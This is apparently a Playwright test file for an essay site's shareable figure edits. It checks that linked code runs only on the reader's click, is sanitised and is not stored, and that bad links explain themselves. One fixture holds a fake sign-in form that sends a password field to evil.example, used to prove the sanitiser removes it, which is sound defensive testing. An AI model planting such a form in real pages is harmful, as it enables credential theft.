"""A figure's edit shared by a link: it round-trips, never runs without the reader's click,
and a link that cannot be offered says why. Frame HTML from an edit is sanitised.
"""

from __future__ import annotations

import base64
import importlib
import re
import zlib
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect

from essay_site.dev.site_server import serve
from essay_site.figures import api
from tests.conftest import (
    NO_CLIPBOARD,
    edit_and_run,
    live,
    open_editor,
    record_errors,
    shipped_source,
)

pytestmark = pytest.mark.browser

NAME = "pixel_explosion"
EDIT = ("BAR_BITS = 28", "BAR_BITS = 20")
#: Appended to the edit: its frames also carry a fake sign-in form.
HOSTILE = """

_render = render


def render(state):
    frame = _render(state)
    form = '<form action="https://evil.example/"><input name="pw"></form>'
    return Frame(frame.html + form, frame.alt, frame.layers)
"""


def packed(source: str) -> str:
    """Source as a link carries it: raw deflate, then base64url."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezer.compress(source.encode()) + squeezer.flush()
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def test_a_shared_edit_round_trips_and_runs_only_when_asked(
    essay_site: Path, browser: Browser
) -> None:
    edited = shipped_source(essay_site, NAME).replace(*EDIT) + HOSTILE
    with serve(essay_site) as server:
        author = browser.new_context()
        author.add_init_script(NO_CLIPBOARD)
        page = author.new_page()
        page.goto(f"{server.url}?{NAME}.n=20")
        figure = live(page, NAME)
        code = open_editor(figure)
        edit_and_run(page, code, edited)
        expect(figure).to_have_attribute("data-run", "ok")
        expect(figure.locator(".live-figure__output form")).to_have_count(0)
        alt = figure.locator(".live-figure__alt").text_content()
        figure.get_by_role("button", name="Copy a link to this edit").click()
        link = figure.get_by_role("textbox", name="Link to copy").input_value()
        author.close()
        assert link.startswith(f"{server.url}?{NAME}.n=20#edit={NAME}&version=")

        reader = browser.new_context()
        other = reader.new_page()
        errors: list[str] = []
        record_errors(other, errors)
        other.goto(link)
        figure = live(other, NAME)
        notice = figure.get_by_role("note")
        expect(notice).to_contain_text("This link carries a changed version of this figure's code")
        shipped = importlib.import_module(f"widgets.{NAME}")
        # Live, as shipped, in the link's state: nothing of the link's code has run.
        expect(figure.locator(".live-figure__alt")).to_have_text(api.render(shipped, {"n": 20}).alt)
        assert figure.get_attribute("data-edited") is None
        notice.get_by_role("button", name="Show it").click()
        expect(notice.locator("pre")).to_contain_text(f"- {EDIT[0]}")
        expect(notice.locator("pre")).to_contain_text(f"+ {EDIT[1]}")
        notice.get_by_role("button", name="Run it").click()
        expect(figure).to_have_attribute("data-edited", "link")
        expect(figure.locator(".live-figure__alt")).to_have_text(alt or "")
        expect(figure.locator(".live-figure__output form")).to_have_count(0)
        kept = other.evaluate("Object.keys(localStorage).filter((k) => k.includes(' edit '))")
        assert kept == [], "a link's code is not kept for the next visit"
        reader.close()
    assert not errors


def test_a_link_that_cannot_be_offered_says_why(essay_site: Path, browser: Browser) -> None:
    page_html = (essay_site / "index.html").read_text()
    version = re.search(r'data-version="(\w+)"[^>]*>\s*<summary', page_html)
    assert version
    source = shipped_source(essay_site, NAME)
    links = {
        "the link is damaged": {"version": version[1], "code": packed(source)[:40]},
        "larger than 64 KB": {"version": version[1], "code": packed("x" * 70_000)},
        "made for another version": {"version": "0" * 16, "code": packed(source)},
    }
    context = browser.new_context()
    page = context.new_page()
    with serve(essay_site) as server:
        for index, (reason, fields) in enumerate(links.items()):
            # A new query each time: a change of fragment alone would not load the page.
            page.goto(f"{server.url}?{index}#{urlencode({'edit': NAME, **fields})}")
            notice = page.locator(f'[data-widget="{NAME}"]').get_by_role("note")
            expect(notice).to_contain_text(reason)
            expect(notice).to_contain_text("The figure shows its own code.")
            expect(notice.get_by_role("button")).to_have_count(0)
        live(page, NAME)
    context.close()
